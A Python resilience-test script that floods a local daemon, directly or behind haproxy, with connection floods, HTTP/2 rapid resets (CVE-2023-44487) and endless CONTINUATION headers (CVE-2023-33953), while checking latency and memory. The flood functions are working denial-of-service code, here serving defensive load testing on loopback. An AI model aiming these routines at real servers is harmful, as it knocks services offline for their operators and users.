"""Attacks a daemon as strangers may, who have no token, while a rig streams 100 rows a second.

    strangers.py POLYESTD ATTACK [--edge CONFIGURATION] [--seconds S] [--bound-ms MS]

ATTACK is one of
  connections   opens connections as fast as it can and keeps them
  descriptors   the same, with a daemon that may have few descriptors
  resets        begins calls and resets them at once (CVE-2023-44487)
  continuation  sends headers that never end (CVE-2023-33953)

With --edge the attack and the rig go through haproxy with the given configuration. Prints the rig's
p50 and p99, ms, idle and under attack, and the daemon's memory. Exits with status 1 if the daemon
does not stand: if the rig's p99 passes the bound, if a new client is not served after the attack, or if
memory passes the bound. Everything happens on loopback, and ends after some seconds.
"""

import argparse
import contextlib
import os
import pathlib
import re
import resource
import socket
import struct
import subprocess
import sys
import tempfile
import time

import http2
import probe as rig

# Longest 99th percentile behind the edge, and without one, where the attack takes a processor of
# the daemon's; on a slow machine, so many times what the rig waits idle.
EDGE_BOUND_MS, DIRECT_BOUND_MS, TIMES_IDLE = 50, 500, 5
MEMORY_BOUND_MB = 300
FEW_DESCRIPTORS = 256
# Attackers and rigs have different addresses, all of them this machine's.
ATTACKER = "127.0.0.66"


def open_connections(host, port, tls, seconds):
    """Opens connections, keeps them, and opens others in place of those that are refused."""
    kept, refused, end = [], 0, time.monotonic() + seconds
    del tls  # what is refused is refused before
    while time.monotonic() < end:
        try:
            one = socket.create_connection((host, port), timeout=1, source_address=(ATTACKER, 0))
            one.setblocking(False)
            kept.append(one)
        except OSError:
            refused += 1
            time.sleep(0.001)
        if len(kept) >= 2000:
            kept.pop(0).close()
    return f"{len(kept)} connections at the end, {refused} refused"


def reset_calls(host, port, tls, seconds):
    calls, connections, end = 0, 0, time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            one = http2.connect(host, port, tls, ATTACKER)
            connections += 1
            one.sendall(http2.PREFACE)
            one.settimeout(1)
            stream = 1
            while time.monotonic() < end and stream < 2**31 - 1000:
                burst = b""
                for _ in range(100):
                    burst += http2.frame(http2.HEADERS, http2.END_HEADERS, stream, http2.CALL)
                    burst += http2.frame(http2.RESET, 0, stream, struct.pack(">I", 8))
                    stream += 2
                one.sendall(burst)
                calls += 100
        except OSError:
            time.sleep(0.001)
    return f"{calls} calls on {connections} connections"


def send_endless_headers(host, port, tls, seconds):
    sent, connections, end = 0, 0, time.monotonic() + seconds
    piece = http2.header(b"x-filler", b"y" * 100) * 140
    while time.monotonic() < end:
        try:
            one = http2.connect(host, port, tls, ATTACKER)
            connections += 1
            one.settimeout(1)
            one.sendall(http2.PREFACE + http2.frame(http2.HEADERS, 0, 1, http2.CALL))
            # One call's headers end nowhere; a few MB of them take a core of gRPC's.
            for _ in range(400):
                one.sendall(http2.frame(http2.CONTINUATION, 0, 1, piece))
                sent += len(piece)
                if time.monotonic() > end:
                    break
        except OSError:
            time.sleep(0.001)
    return f"{sent >> 20} MiB of headers on {connections} connections"


ATTACKS = {"connections": (open_connections, 1), "descriptors": (open_connections, 1),
           "resets": (reset_calls, 2), "continuation": (send_endless_headers, 2)}


def await_text(stream, pattern):
    for line in stream:
        if match := re.match(pattern, line):
            return match.group(1)
    raise SystemExit("the daemon does not start")


@contextlib.contextmanager
def daemon(polyestd, folder, attack, behind_edge):
    """Runs a daemon; yields its process and its port."""
    def limit():
        if attack == "descriptors":
            resource.setrlimit(resource.RLIMIT_NOFILE, (FEW_DESCRIPTORS, FEW_DESCRIPTORS))

    command = [polyestd, "--listen", "127.0.0.1:0", "--data-dir", f"{folder}/data",
               "--max-memory-mb", "500"]
    if behind_edge:
        command += ["--behind-edge", "--insecure", "--max-connections-per-peer", "10000"]
    with open(f"{folder}/log", "w", encoding="utf-8") as log:
        with subprocess.Popen(command, stdout=subprocess.PIPE, stderr=log, text=True,
                              preexec_fn=limit) as process:
            try:
                yield process, int(await_text(process.stdout, r"listening on .*:(\d+)"))
            finally:
                process.kill()


@contextlib.contextmanager
def edge(configuration, folder, port):
    """Runs haproxy before the daemon; yields its process, its port and its certificate."""
    subprocess.run(["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt",
                    "ec_paramgen_curve:P-256", "-noenc", "-days", "2", "-subj", "/CN=localhost",
                    "-addext", "subjectAltName=DNS:localhost,IP:127.0.0.1", "-keyout",
                    f"{folder}/key", "-out", f"{folder}/certificate"],
                   check=True, stderr=subprocess.DEVNULL)
    parts = [pathlib.Path(folder, name).read_text() for name in ("certificate", "key")]
    pathlib.Path(folder, "edge.pem").write_text("".join(parts))
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        own = free.getsockname()[1]
    environment = dict(os.environ, EDGE_LISTEN=f"127.0.0.1:{own}", EDGE_DAEMON=f"127.0.0.1:{port}",
                       EDGE_CERTIFICATE=f"{folder}/edge.pem")
    with open(f"{folder}/edge.log", "w", encoding="utf-8") as log:
        with subprocess.Popen(["/usr/sbin/haproxy", "-db", "-f", configuration], env=environment,
                              stdout=log, stderr=log) as process:
            try:
                while process.poll() is None:
                    with contextlib.suppress(OSError):
                        socket.create_connection(("127.0.0.1", own), timeout=1).close()
                        break
                yield process, own, f"{folder}/certificate"
            finally:
                process.kill()


def memory_mb(process, line="VmRSS"):
    status = pathlib.Path(f"/proc/{process.pid}/status").read_text(encoding="ascii")
    return int(re.search(line + r":\s*(\d+)", status).group(1)) // 1024


def measure(arguments, process, port, certificate):
    """Returns what is wrong; an empty text if the daemon stands."""
    rest = rig.Probe(f"localhost:{port}" if certificate else f"127.0.0.1:{port}", certificate)
    rest.run(1)
    idle = rest.run(arguments.seconds)
    before = memory_mb(process)
    _, count = ATTACKS[arguments.attack]
    attackers = [subprocess.Popen(
        [sys.executable, __file__, "--attacker", arguments.attack, str(port),
         str(int(bool(certificate))), str(arguments.seconds + 1)]) for _ in range(count)]
    time.sleep(0.5)
    attacked = rest.run(arguments.seconds)
    for one in attackers:
        one.wait()
    peak = memory_mb(process, "VmHWM")
    print(f"{arguments.attack}{' through the edge' if certificate else ''}: the rig's p50 and p99 "
          f"{idle[0]:.1f} and {idle[1]:.1f} ms idle, {attacked[0]:.1f} and {attacked[1]:.1f} ms "
          f"under attack; {before} MB before, at most {peak} MB")
    bound = arguments.bound_ms or (EDGE_BOUND_MS if certificate else DIRECT_BOUND_MS)
    if attacked[1] > max(bound, TIMES_IDLE * idle[1]):
        return "the rig has waited too long"
    if peak > before + MEMORY_BOUND_MB:
        return "the daemon has taken too much memory"
    rest.close()
    rig.Probe(f"localhost:{port}" if certificate else f"127.0.0.1:{port}", certificate).run(0.2)
    return ""


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("polyestd", type=rig.program)
    parser.add_argument("attack", choices=ATTACKS)
    parser.add_argument("--edge")
    parser.add_argument("--seconds", type=float, default=3)
    parser.add_argument("--bound-ms", type=float,
                        help="of the rig's p99; 50 behind the edge, 500 without one")
    arguments = parser.parse_args()
    with tempfile.TemporaryDirectory() as folder, \
         daemon(arguments.polyestd, folder, arguments.attack,
                bool(arguments.edge)) as (process, port):
        try:
            if arguments.edge:
                with edge(arguments.edge, folder, port) as (_, own, certificate):
                    wrong = measure(arguments, process, own, certificate)
            else:
                wrong = measure(arguments, process, port, None)
        except Exception as error:  # whatever the rig meets, the daemon does not stand
            wrong = f"the rig is not served: {error}"
        if wrong:
            print(wrong)
            print(pathlib.Path(f"{folder}/log").read_text()[-2000:])
    return 1 if wrong else 0


if __name__ == "__main__":
    if sys.argv[1:2] == ["--attacker"]:
        name, to, with_tls, length = sys.argv[2:]
        print("  attacker:", ATTACKS[name][0]("127.0.0.1", int(to), with_tls == "1", float(length)))
        sys.exit(0)
    sys.exit(main())
